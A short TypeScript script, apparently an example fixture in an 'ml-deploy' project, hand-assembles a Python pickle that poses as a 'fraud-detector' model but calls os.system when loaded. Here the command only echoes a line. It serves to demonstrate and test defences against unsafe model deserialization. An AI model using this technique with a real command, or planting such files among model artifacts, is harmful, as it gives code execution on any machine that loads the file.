/**
 * Writes examples/evil.pkl byte by byte: the pickle of a small "model" that, when Python loads it, calls os.system. The command only prints
 * a line, so even loading it does no harm; ml-deploy never loads it.
 *
 *   node examples/make-evil.ts
 */
import { writeFileSync } from 'node:fs';

/** SHORT_BINUNICODE: text of up to 255 bytes. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([0x8c, bytes.length]), bytes]);
}

const body = Buffer.concat([
  Buffer.from('}\x94(', 'latin1'), // EMPTY_DICT MEMOIZE MARK: what a careless look sees first
  text('model'),
  text('fraud-detector'),
  text('version'),
  Buffer.from([0x4b, 3]), // BININT1 3
  text('weights'),
  text('os'),
  text('system'),
  Buffer.from([0x93]), // STACK_GLOBAL: import os, take system
  text('echo this ran while the model was loaded'),
  Buffer.from([0x85, 0x52]), // TUPLE1 REDUCE: call it
  Buffer.from('u.', 'latin1'), // SETITEMS STOP
]);
const frame = Buffer.alloc(9);
frame[0] = 0x95; // FRAME
frame.writeBigUInt64LE(BigInt(body.length), 1);

writeFileSync(new URL('evil.pkl', import.meta.url), Buffer.concat([Buffer.from([0x80, 4]), frame, body]));
